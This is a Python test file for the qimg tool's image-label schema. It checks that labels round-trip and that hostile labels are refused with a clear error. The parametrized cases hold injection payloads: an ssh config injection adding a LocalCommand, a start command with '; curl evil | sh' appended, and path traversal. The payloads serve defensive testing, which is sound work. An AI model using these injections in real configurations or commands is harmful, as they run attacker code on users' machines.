"""The label schema: what `build` writes is what `run` and `check` read back, and a label that no qimg
build writes (anyone can publish an image) is refused before it reaches an ssh config or a constant."""

from __future__ import annotations

import pytest

from qimg.builder import labels
from qimg.builder.spec import ImageSpec
from qimg.errors import UsageError


def test_round_trip() -> None:
    spec = ImageSpec.create(user="alice", uid=1001, gid=1002)
    image = labels.read(labels.write(spec), "img")
    assert image == labels.ImageLabels("alice", labels.START_COMMAND, 1001, 1002, False)
    root = labels.read(labels.write(ImageSpec.create()), "img")
    assert root is not None and (root.user, root.root_login) == ("root", True)


def test_an_image_qimg_did_not_build_has_none() -> None:
    assert labels.read(None, "img") is None
    assert labels.read({"io.qimg.user": "", "io.qimg.start": "", "other": "x"}, "img") is None


GOOD = labels.write(ImageSpec.create(user="alice"))


@pytest.mark.parametrize(
    ("label", "value"),
    [
        ("io.qimg.user", "alice\n    PermitLocalCommand yes\n    LocalCommand touch /tmp/pwned"),
        ("io.qimg.user", "Alice"),
        ("io.qimg.user", "alice bob"),
        ("io.qimg.start", "/usr/local/sbin/qimg-start; curl evil | sh"),
        ("io.qimg.start", "${HOME}/start"),
        ("io.qimg.start", "relative/start"),
        ("io.qimg.start", "/usr/../bin/sh"),
        ("io.qimg.uid", "-1"),
        ("io.qimg.uid", "99999999999"),
        ("io.qimg.root-login", "maybe"),
    ],
)
def test_hostile_labels_are_refused(label: str, value: str) -> None:
    with pytest.raises(UsageError, match=f"its label {label}=") as refused:
        labels.read({**GOOD, label: value}, "evil/image:1")
    message = str(refused.value)
    assert "\n" not in message and "rebuild it with `qimg build --base evil/image:1`" in message
